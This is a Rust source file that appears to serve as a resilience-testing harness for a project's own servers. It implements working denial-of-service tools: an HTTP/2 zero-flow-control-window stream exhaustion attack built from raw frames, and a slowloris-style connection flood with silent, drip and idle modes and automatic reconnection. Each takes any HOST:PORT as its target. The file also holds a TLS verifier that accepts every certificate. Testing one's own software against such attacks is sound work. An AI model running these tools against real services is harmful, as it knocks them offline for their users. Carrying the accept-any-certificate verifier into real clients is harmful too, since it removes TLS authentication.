//! Attacks to re-run against the programs, from the tests and `scripts/attack`: HTTP/2
//! connections that open many streams and never let the server send a byte of their answers
//! (a zero flow-control window), and a flood of connections that send nothing, drip a header
//! line now and then, or idle after one request. Each reports what the target did with
//! them, so a test can assert it and an operator can read it.

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::net::TcpStream;

#[derive(Debug, Clone, clap::Args)]
pub struct ZeroWindow {
    /// HOST:PORT of the server.
    #[arg(long)]
    pub target: String,
    /// Speak TLS (ALPN h2; the certificate is not checked) instead of h2c.
    #[arg(long)]
    pub tls: bool,
    #[arg(long, default_value_t = 150)]
    pub connections: usize,
    /// Requests sent on each connection at once.
    #[arg(long, default_value_t = 100)]
    pub streams: usize,
    /// What every stream asks for.
    #[arg(long, default_value = "/api/v1/explain?repo=baseos-9&arch=x86_64")]
    pub path: String,
    /// How long to hold the connections open at most (seconds).
    #[arg(long, default_value_t = 30)]
    pub hold: u64,
}

/// What the target did with the attack's connections.
#[derive(Debug, Default, Clone, PartialEq)]
pub struct Outcome {
    /// Connections made.
    pub opened: usize,
    /// Closed by the target within the hold.
    pub closed: usize,
    /// How long after its attack began the target closed the last of those it closed.
    pub last_closed_after: Option<Duration>,
}

impl std::fmt::Display for Outcome {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(
            f,
            "{} connections, {} closed by the target",
            self.opened, self.closed
        )?;
        if let Some(after) = self.last_closed_after {
            write!(f, ", the last after {:.1} s", after.as_secs_f64())?;
        }
        Ok(())
    }
}

/// The bytes a zero-window client sends: the preface, SETTINGS with INITIAL_WINDOW_SIZE 0,
/// then `streams` HEADERS frames (END_STREAM, END_HEADERS) for GET `path`; never a
/// WINDOW_UPDATE.
pub fn zero_window_bytes(streams: usize, path: &str) -> Vec<u8> {
    let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    // SETTINGS: INITIAL_WINDOW_SIZE (0x4) = 0.
    frame(&mut out, 0x4, 0, 0, &[0, 0x4, 0, 0, 0, 0]);
    // HPACK: :method GET (2), :scheme http (6), :authority localhost as a literal, and
    // :path as a literal without indexing (name index 4).
    let mut block = vec![0x82, 0x86];
    block.push(0x01);
    literal(&mut block, b"localhost");
    block.push(0x04);
    literal(&mut block, path.as_bytes());
    for i in 0..streams {
        frame(&mut out, 0x1, 0x5, (2 * i + 1) as u32, &block);
    }
    out
}

fn literal(out: &mut Vec<u8>, s: &[u8]) {
    // A 7-bit prefixed length, not Huffman-coded.
    if s.len() < 127 {
        out.push(s.len() as u8);
    } else {
        out.push(127);
        let mut rest = s.len() - 127;
        while rest >= 128 {
            out.push((rest % 128) as u8 | 0x80);
            rest /= 128;
        }
        out.push(rest as u8);
    }
    out.extend_from_slice(s);
}

fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let len = payload.len() as u32;
    out.extend_from_slice(&len.to_be_bytes()[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

/// Runs the zero-window attack; returns once every connection was closed by the target or
/// the hold ran out.
pub async fn zero_window(args: &ZeroWindow) -> anyhow::Result<Outcome> {
    let bytes = Arc::new(zero_window_bytes(args.streams, &args.path));
    let tls = args.tls.then(tls_connector);
    let started = Instant::now();
    let hold = Duration::from_secs(args.hold);
    let mut tasks = Vec::new();
    for _ in 0..args.connections {
        let tcp = TcpStream::connect(&args.target).await?;
        let (bytes, tls) = (bytes.clone(), tls.clone());
        tasks.push(tokio::spawn(async move {
            match tls {
                Some(connector) => {
                    let name = rustls_pki_types::ServerName::try_from("localhost").unwrap();
                    let stream = connector.connect(name, tcp).await.ok()?;
                    hold_open(stream, &bytes, started, hold).await
                }
                None => hold_open(tcp, &bytes, started, hold).await,
            }
        }));
    }
    let mut outcome = Outcome {
        opened: tasks.len(),
        ..Outcome::default()
    };
    for task in tasks {
        if let Ok(Some(after)) = task.await {
            outcome.closed += 1;
            outcome.last_closed_after = outcome.last_closed_after.max(Some(after));
        }
    }
    Ok(outcome)
}

/// Writes `bytes`, then reads (and drops) whatever comes until the target closes (the time
/// since `started`) or `hold` has passed since then (`None`).
async fn hold_open<S: AsyncRead + AsyncWrite + Unpin>(
    mut stream: S,
    bytes: &[u8],
    started: Instant,
    hold: Duration,
) -> Option<Duration> {
    if stream.write_all(bytes).await.is_err() {
        return Some(started.elapsed());
    }
    let deadline = tokio::time::Instant::from_std(started + hold);
    let mut buf = vec![0u8; 16 * 1024];
    loop {
        match tokio::time::timeout_at(deadline, stream.read(&mut buf)).await {
            Err(_) => return None,
            Ok(Ok(0) | Err(_)) => return Some(started.elapsed()),
            Ok(Ok(_)) => {}
        }
    }
}

/// A TLS client offering only h2 that takes any certificate: an attacker checks nothing.
fn tls_connector() -> tokio_rustls::TlsConnector {
    let mut config = rustls::ClientConfig::builder()
        .dangerous()
        .with_custom_certificate_verifier(Arc::new(AnyCertificate))
        .with_no_client_auth();
    config.alpn_protocols = vec![b"h2".to_vec()];
    tokio_rustls::TlsConnector::from(Arc::new(config))
}

#[derive(Debug)]
struct AnyCertificate;

impl rustls::client::danger::ServerCertVerifier for AnyCertificate {
    fn verify_server_cert(
        &self,
        _: &rustls_pki_types::CertificateDer<'_>,
        _: &[rustls_pki_types::CertificateDer<'_>],
        _: &rustls_pki_types::ServerName<'_>,
        _: &[u8],
        _: rustls_pki_types::UnixTime,
    ) -> Result<rustls::client::danger::ServerCertVerified, rustls::Error> {
        Ok(rustls::client::danger::ServerCertVerified::assertion())
    }

    fn verify_tls12_signature(
        &self,
        _: &[u8],
        _: &rustls_pki_types::CertificateDer<'_>,
        _: &rustls::DigitallySignedStruct,
    ) -> Result<rustls::client::danger::HandshakeSignatureValid, rustls::Error> {
        Ok(rustls::client::danger::HandshakeSignatureValid::assertion())
    }

    fn verify_tls13_signature(
        &self,
        _: &[u8],
        _: &rustls_pki_types::CertificateDer<'_>,
        _: &rustls::DigitallySignedStruct,
    ) -> Result<rustls::client::danger::HandshakeSignatureValid, rustls::Error> {
        Ok(rustls::client::danger::HandshakeSignatureValid::assertion())
    }

    fn supported_verify_schemes(&self) -> Vec<rustls::SignatureScheme> {
        rustls::crypto::ring::default_provider()
            .signature_verification_algorithms
            .supported_schemes()
    }
}

/// How a flood's connections behave.
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum FloodMode {
    /// Connect and send nothing.
    Silent,
    /// Send a request line, then a header line every second, never ending the head.
    Drip,
    /// Send one whole request (keep-alive), read its answer, then send nothing.
    Idle,
}

#[derive(Debug, Clone, clap::Args)]
pub struct Flood {
    /// HOST:PORT of the listener.
    #[arg(long)]
    pub target: String,
    #[arg(long, default_value_t = 2000)]
    pub connections: usize,
    #[arg(long, value_enum, default_value = "silent")]
    pub mode: FloodMode,
    /// How long to hold the connections open at most (seconds).
    #[arg(long, default_value_t = 30)]
    pub hold: u64,
    /// Make each connection again as soon as the target closes it, until the hold ends.
    #[arg(long)]
    pub sustain: bool,
}

/// Runs a flood; returns once every connection was closed by the target or the hold ran
/// out (with `sustain`, when the hold ran out: each connection the target closes is made
/// again at once). A connection that cannot be made ends its slot.
pub async fn flood(args: &Flood) -> Outcome {
    let started = Instant::now();
    let hold = Duration::from_secs(args.hold);
    let opened = Arc::new(AtomicUsize::new(0));
    let closed = Arc::new(AtomicUsize::new(0));
    let mut slots = Vec::new();
    for _ in 0..args.connections {
        let (target, mode, sustain) = (args.target.clone(), args.mode, args.sustain);
        let (opened, closed) = (opened.clone(), closed.clone());
        slots.push(tokio::spawn(async move {
            let mut last = None;
            while started.elapsed() < hold {
                let Ok(tcp) = TcpStream::connect(&target).await else {
                    break;
                };
                opened.fetch_add(1, Ordering::Relaxed);
                let Some(after) = flood_one(tcp, mode, started, hold).await else {
                    break;
                };
                closed.fetch_add(1, Ordering::Relaxed);
                last = Some(after);
                if !sustain {
                    break;
                }
                tokio::time::sleep(Duration::from_millis(10)).await;
            }
            last
        }));
    }
    let mut last_closed_after = None;
    for slot in slots {
        last_closed_after = last_closed_after.max(slot.await.ok().flatten());
    }
    Outcome {
        opened: opened.load(Ordering::Relaxed),
        closed: closed.load(Ordering::Relaxed),
        last_closed_after,
    }
}

/// Holds one connection as `mode` says until `started + hold`: `None` when it was still
/// open then, else how long after `started` the server closed it.
async fn flood_one(
    tcp: TcpStream,
    mode: FloodMode,
    started: Instant,
    hold: Duration,
) -> Option<Duration> {
    let deadline = tokio::time::Instant::from_std(started + hold);
    flood_hold(tcp, mode, deadline)
        .await
        .err()
        .map(|_| started.elapsed())
}

/// Ok when the connection was still open at `deadline`; an error once the server closed it
/// (or it failed).
async fn flood_hold(
    mut tcp: TcpStream,
    mode: FloodMode,
    deadline: tokio::time::Instant,
) -> std::io::Result<()> {
    let closed = || std::io::Error::from(std::io::ErrorKind::UnexpectedEof);
    let mut buf = vec![0u8; 4096];
    match mode {
        FloodMode::Silent => {}
        FloodMode::Idle => {
            tcp.write_all(b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n")
                .await?
        }
        FloodMode::Drip => {
            tcp.write_all(b"GET / HTTP/1.1\r\n").await?;
            for n in 1u64.. {
                tokio::select! {
                    _ = tokio::time::sleep_until(deadline) => return Ok(()),
                    _ = tokio::time::sleep(Duration::from_secs(1)) => {
                        tcp.write_all(format!("X-Drip-{n}: {n}\r\n").as_bytes()).await?;
                    }
                    read = tcp.read(&mut buf) => if read? == 0 { return Err(closed()) },
                }
            }
        }
    }
    loop {
        match tokio::time::timeout_at(deadline, tcp.read(&mut buf)).await {
            Err(_) => return Ok(()),
            Ok(read) => {
                if read? == 0 {
                    return Err(closed());
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_zero_window_bytes_are_a_preface_settings_and_headers() {
        let bytes = zero_window_bytes(2, "/x");
        assert!(bytes.starts_with(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"));
        let settings = &bytes[24..24 + 15];
        assert_eq!(settings, &[0, 0, 6, 4, 0, 0, 0, 0, 0, 0, 4, 0, 0, 0, 0]);
        // Two HEADERS frames on streams 1 and 3.
        let first = &bytes[39..];
        assert_eq!(first[3], 1);
        assert_eq!(&first[5..9], &1u32.to_be_bytes());
        let len = u32::from_be_bytes([0, first[0], first[1], first[2]]) as usize;
        assert_eq!(&first[9 + len + 5..9 + len + 9], &3u32.to_be_bytes());
    }

    #[test]
    fn long_literals_use_the_prefix_continuation() {
        let mut out = Vec::new();
        literal(&mut out, &[b'a'; 300]);
        // 127 + (173 % 128 = 45, continued) + 1
        assert_eq!(&out[..3], &[127, 45 | 0x80, 1]);
        assert_eq!(out.len(), 3 + 300);
    }
}
